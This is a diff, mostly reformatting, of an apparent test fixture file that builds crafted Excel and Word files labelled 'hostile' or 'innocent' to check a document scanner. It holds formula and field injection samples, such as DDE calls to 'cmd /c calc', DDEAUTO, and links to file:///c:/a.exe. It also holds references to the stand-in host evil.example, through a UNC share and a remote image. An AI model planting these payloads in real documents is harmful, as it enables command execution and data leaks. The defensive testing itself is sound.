@@ -28,9 +28,19 @@ const bookWith = (relation: string, path: string, type: string, part: string) =>
     more: { [`xl/${path}`]: part },
   });
 const settings = (inside: string) =>
-  wordWith('settings', 'settings.xml', 'wordprocessingml.settings+xml', `<w:settings ${W}>${inside}</w:settings>`);
+  wordWith(
+    'settings',
+    'settings.xml',
+    'wordprocessingml.settings+xml',
+    `<w:settings ${W}>${inside}</w:settings>`,
+  );
 const comments = (inside: string) =>
-  wordWith('comments', 'comments.xml', 'wordprocessingml.comments+xml', `<w:comments ${W}>${inside}</w:comments>`);
+  wordWith(
+    'comments',
+    'comments.xml',
+    'wordprocessingml.comments+xml',
+    `<w:comments ${W}>${inside}</w:comments>`,
+  );
 const vml = (part: string | Uint8Array) => wordWith('vmlDrawing', 'a.vml', 'vmlDrawing', part);
 const svg = (part: string | Uint8Array) =>
   wordOf({
@@ -63,7 +73,8 @@ const relations = (list: string) =>
       'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships" xmlns:z="z">${list}</Relationships>`,
     },
   });
-const row = (cells: string) => bookOf({ inside: `<sheetData><row r="1">${cells}</row></sheetData>` });
+const row = (cells: string) =>
+  bookOf({ inside: `<sheetData><row r="1">${cells}</row></sheetData>` });
 const formula = (text: string) =>
   row(`<c r="A1"><f>${text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f><v>1</v></c>`);
 const sheet = (inside: string) => bookOf({ inside: `<sheetData/>${inside}` });
@@ -77,15 +88,24 @@ const field = (instruction: string) =>
   wordOf({ inside: `<w:p><w:fldSimple w:instr="${instruction}"/></w:p>` });
 const boxes = (signs: string) =>
   wordOf({
-    inside: `<w:tbl><w:tr>${[...signs].map((sign) => `<w:tc><w:p><w:r><w:t>${sign}</w:t></w:r></w:p></w:tc>`).join('')}</w:tr></w:tbl>`,
+    inside: `<w:tbl><w:tr>${signs
+      .split('')
+      .map((sign) => `<w:tc><w:p><w:r><w:t>${sign}</w:t></w:r></w:p></w:tc>`)
+      .join('')}</w:tr></w:tbl>`,
   });
 
 const numbers: CraftedSet = {
-  '身份证号码：Excel 公式算出的字': xlsx('hostile', () => row(`<c r="A1" t="str"><f>A2</f><v>${ID}</v></c>`)),
+  '身份证号码：Excel 公式算出的字': xlsx('hostile', () =>
+    row(`<c r="A1" t="str"><f>A2</f><v>${ID}</v></c>`),
+  ),
   '身份证号码：Excel 数值': xlsx('hostile', () => row(`<c r="A1"><v>${ID}</v></c>`)),
   '身份证号码：Excel 公式里的字': xlsx('hostile', () => formula(`"${ID}"`)),
   '身份证号码：Excel 一格一位': xlsx('hostile', () =>
-    row([...ID].map((digit) => `<c><v>${digit}</v></c>`).join('')),
+    row(
+      ID.split('')
+        .map((digit) => `<c><v>${digit}</v></c>`)
+        .join(''),
+    ),
   ),
   '身份证号码：Excel 页眉': xlsx('hostile', () =>
     sheet(`<headerFooter><oddHeader>&amp;C${ID}</oddHeader></headerFooter>`),
@@ -164,13 +184,19 @@ const formulas: CraftedSet = {
     ),
   ),
   '公式：链接到程序': xlsx('hostile', () => formula('HYPERLINK("file:///c:/a.exe","x")')),
-  '公式：链接到共享文件夹': xlsx('hostile', () => formula(String.raw`HYPERLINK("\\evil.example\a.exe")`)),
+  '公式：链接到共享文件夹': xlsx('hostile', () =>
+    formula(String.raw`HYPERLINK("\\evil.example\a.exe")`),
+  ),
   '公式：拼出来的链接': xlsx('hostile', () => formula('HYPERLINK(""&"file:///c:/a.exe")')),
   '公式：DDE 函数': xlsx('hostile', () => formula('DDE("cmd";"/c calc";"a")')),
   '公式：引号里的 DDE 链接': xlsx('hostile', () => formula("'cmd|/c calc'!A1")),
-  '公式：共享文件夹里的工作簿': xlsx('hostile', () => formula(String.raw`'\\evil.example\[a.xlsx]S'!A1`)),
+  '公式：共享文件夹里的工作簿': xlsx('hostile', () =>
+    formula(String.raw`'\\evil.example\[a.xlsx]S'!A1`),
+  ),
   '公式：别的工作簿的编号': xlsx('hostile', () => formula('[1]Sheet1!A1')),
-  '公式：INDIRECT 写别的文件': xlsx('hostile', () => formula('INDIRECT("\'file:///c:/a.ods\'#$S.A1")')),
+  '公式：INDIRECT 写别的文件': xlsx('hostile', () =>
+    formula('INDIRECT("\'file:///c:/a.ods\'#$S.A1")'),
+  ),
   '公式：多维数据集、PY': xlsx('hostile', () => formula('CUBEVALUE("a","b")+_xlws.PY(0,1)')),
   '公式：不认识的函数': xlsx('hostile', () => formula('SENDMAIL(A1)')),
   '公式：引号不成对': xlsx('hostile', () => formula('"a&WEBSERVICE(A1)')),
@@ -181,7 +207,7 @@ const formulas: CraftedSet = {
     bookWith('drawing', 'a.xml', 'drawing', '<xdr:sp macro="\'\\\\evil\\a.xlsm\'!m"/>'),
   ),
   '公式：引用别的表、本簿的名称、表格的列': xlsx('innocent', () =>
-    formula("SUM('1月 (汇总)'!A1:B2)+[0]!合计+表1[[#This Row],[金额]]+COUNTIF(表1[单位],\"*局*\")"),
+    formula('SUM(\'1月 (汇总)\'!A1:B2)+[0]!合计+表1[[#This Row],[金额]]+COUNTIF(表1[单位],"*局*")'),
   ),
   '公式：网页、本簿里的链接': xlsx('innocent', () =>
     formula('HYPERLINK("#\'"&A1&"\'!A1","看")&HYPERLINK("https://www.example.gov.cn/"&B1)'),
@@ -198,7 +224,7 @@ const formulas: CraftedSet = {
   ),
   '公式：本簿的打印区域': xlsx('innocent', () =>
     workbook(
-      "<definedNames><definedName name=\"_xlnm.Print_Area\">'a'!$A$1:$B$2</definedName></definedNames>",
+      '<definedNames><definedName name="_xlnm.Print_Area">\'a\'!$A$1:$B$2</definedName></definedNames>',
     ),
   ),
   'Word：数学公式不是表格的公式': docx('innocent', () =>
@@ -241,9 +267,7 @@ const reaching: CraftedSet = {
     relations(`<Relationship Id="a" Type="${REL}/image" Target="http://evil.example/a.png"/>`),
   ),
   'Word：写法不对的 TargetMode': docx('hostile', () =>
-    relations(
-      `<Relationship Id="a" Type="${REL}/image" Target="a.png" TargetMode=" External "/>`,
-    ),
+    relations(`<Relationship Id="a" Type="${REL}/image" Target="a.png" TargetMode=" External "/>`),
   ),
   'Word：域的属性写两个前缀': docx('hostile', () =>
     wordOf({ inside: '<w:p><w:fldSimple z:instr="PAGE" w:instr="DDEAUTO cmd"/></w:p>' }),
